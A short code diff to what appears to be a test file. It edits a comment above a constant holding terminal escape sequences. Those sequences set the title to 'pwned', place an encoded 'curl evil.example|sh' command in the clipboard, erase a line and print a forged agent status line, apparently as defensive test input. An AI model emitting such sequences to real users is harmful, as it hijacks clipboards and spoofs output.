@@ -10,7 +10,7 @@ import { aWorld } from './world.ts'
 
 /** Under this name a proxy passes requests on. */
 const PROXY_HOST = 'chat.example.org'
-/** Of the review: it sets the title and the clipboard, and rewrites a line. */
+/** The review's example: it sets the title and the clipboard, and rewrites a line. */
 const SEQUENCES =
   '\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\u001b[1A\u001b[2K\u001b[32m● agent Ana: fake line\u001b[0m\u202e'
 
